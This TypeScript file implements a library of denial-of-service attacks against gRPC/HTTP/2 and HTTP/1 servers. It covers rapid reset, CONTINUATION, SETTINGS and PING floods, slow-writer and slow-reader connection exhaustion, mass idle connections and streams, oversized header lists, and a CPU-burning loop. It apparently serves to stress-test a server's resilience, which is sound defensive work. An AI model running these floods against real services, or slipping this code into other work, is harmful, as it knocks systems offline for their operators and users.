import { connect, type Socket } from "node:net";
import { acknowledge, callHeaders, FLAG, FRAME, frame, PREFACE, reset, settings } from "./frames.ts";

// Attacks on a listener, by name: each goes on until its process is killed. Connections that the server ends are opened again.

interface Target {
  readonly host: string;
  readonly port: number;
  /** A method of the listener that answers with more than a window, or streams. */
  readonly path: string;
  /** Its message, as gRPC frames it. */
  readonly message: Buffer;
}

type Attack = (target: Target) => void;

/** Keeps a connection: opens it again some time after it was ended. */
function keep({ host, port }: Target, onOpen: (socket: Socket) => void): void {
  const again = () => setTimeout(() => keep({ host, port } as Target, onOpen), 20);
  const socket = connect(port, host);
  socket.on("error", () => {}).on("close", again);
  socket.on("data", () => {});
  socket.once("connect", () => onOpen(socket));
}

function many(count: number, target: Target, onOpen: (socket: Socket) => void): void {
  for (let index = 0; index < count; index++) setTimeout(() => keep(target, onOpen), index);
}

/** Writes as fast as the peer takes it. */
function flood(socket: Socket, next: () => Buffer): void {
  const write = () => {
    while (!socket.destroyed && socket.write(next()));
    if (!socket.destroyed) socket.once("drain", write);
  };
  write();
}

const open = (socket: Socket, window?: number) =>
  socket.write(Buffer.concat([PREFACE, settings(window), acknowledge()]));
const openUnacknowledged = (socket: Socket) => socket.write(Buffer.concat([PREFACE, settings()]));
const headersOf = (path: string, flags: number, stream: number, more: Readonly<Record<string, string>> = {}) =>
  frame(FRAME.HEADERS, flags, stream, callHeaders(path, more));
const ofHttp1 = (target: Target, more = "") => `GET ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\n${more}`;

function headerLists(target: Target, begin: (socket: Socket) => void): void {
  const more = Object.fromEntries(Array.from({ length: 14 }, (_, index) => [`x-${index}`, "m".repeat(1000)]));
  const block = callHeaders(target.path, more);
  many(20, target, (socket) => {
    begin(socket);
    let stream = 1;
    const timer = setInterval(() => {
      for (let call = 0; call < 10; call++, stream += 2) {
        socket.write(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, block));
      }
    }, 50);
    socket.once("close", () => clearInterval(timer));
  });
}

/** Against listeners of gRPC. */
export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset, 4 connections": (target) =>
    many(4, target, (socket) => {
      open(socket);
      let stream = 1;
      flood(socket, () => {
        const frames: Buffer[] = [];
        for (let count = 0; count < 50; count++, stream += 2) {
          frames.push(headersOf(target.path, FLAG.END_HEADERS, stream), reset(stream));
        }
        return Buffer.concat(frames);
      });
    }),
  "CONTINUATION flood, 4 connections": (target) =>
    many(4, target, (socket) => {
      open(socket);
      socket.write(headersOf(target.path, 0, 1));
      const more = frame(FRAME.CONTINUATION, 0, 1, callHeaders(target.path, { "x-more": "m".repeat(8000) }));
      flood(socket, () => more);
    }),
  "SETTINGS flood, 4 connections": (target) =>
    many(4, target, (socket) => {
      open(socket);
      const block = Buffer.concat(new Array<Buffer>(100).fill(settings(65_535)));
      flood(socket, () => block);
    }),
  "PING flood, 4 connections": (target) =>
    many(4, target, (socket) => {
      open(socket);
      const block = Buffer.concat(new Array<Buffer>(100).fill(frame(FRAME.PING, 0, 0, Buffer.alloc(8))));
      flood(socket, () => block);
    }),
  "half-open headers, 500 connections": (target) =>
    many(500, target, (socket) => {
      open(socket);
      socket.write(headersOf(target.path, 0, 1));
    }),
  "slow writers, 500 connections": (target) =>
    many(500, target, (socket) => {
      open(socket);
      const head = Buffer.alloc(5);
      head.writeUInt32BE(1000, 1);
      socket.write(Buffer.concat([headersOf(target.path, FLAG.END_HEADERS, 1), frame(FRAME.DATA, 0, 1, head)]));
      const timer = setInterval(() => socket.write(frame(FRAME.DATA, 0, 1, Buffer.from([65]))), 500);
      socket.once("close", () => clearInterval(timer));
    }),
  "slow readers, 20 connections of 20 calls": (target) =>
    many(20, target, (socket) => {
      open(socket, 0);
      for (let call = 0; call < 20; call++) {
        const stream = 1 + 2 * call;
        socket.write(headersOf(target.path, FLAG.END_HEADERS, stream));
        socket.write(frame(FRAME.DATA, FLAG.END_STREAM, stream, target.message));
      }
    }),
  "2,000 idle connections": (target) => many(2000, target, (socket) => open(socket)),
  "5,000 idle streams, 50 connections": (target) =>
    many(50, target, (socket) => {
      open(socket);
      const stream = (index: number) => headersOf(target.path, FLAG.END_HEADERS, 1 + 2 * index);
      for (let index = 0; index < 100; index++) socket.write(stream(index));
    }),
  "header lists of 14 kB, 20 connections of 200 calls a second": (target) => headerLists(target, open),
  "the same, settings never acknowledged": (target) => headerLists(target, openUnacknowledged),
};

/** Against listeners of HTTP/1. */
export const HTTP1_ATTACKS: Readonly<Record<string, Attack>> = {
  "half-open headers, 500 connections": (target) => many(500, target, (socket) => socket.write(ofHttp1(target, "X: "))),
  "slow writers, 500 connections": (target) =>
    many(500, target, (socket) => {
      socket.write(ofHttp1(target));
      const timer = setInterval(() => socket.write("X-a: b\r\n"), 500);
      socket.once("close", () => clearInterval(timer));
    }),
  "slow readers, 200 connections": (target) =>
    many(200, target, (socket) => {
      socket.pause();
      socket.write(`${ofHttp1(target)}\r\n`.repeat(50));
    }),
  "2,000 idle connections": (target) => many(2000, target, () => {}),
  "endless headers, 20 connections": (target) =>
    many(20, target, (socket) => {
      socket.write(ofHttp1(target));
      const more = Buffer.from(`X-a: ${"m".repeat(1000)}\r\n`);
      flood(socket, () => more);
    }),
};

/** The processor alone: what an attacker on the same machine takes without sending anything. */
export const BURNING = "no attack, but a process that is busy";

export function burn(): void {
  for (;;);
}
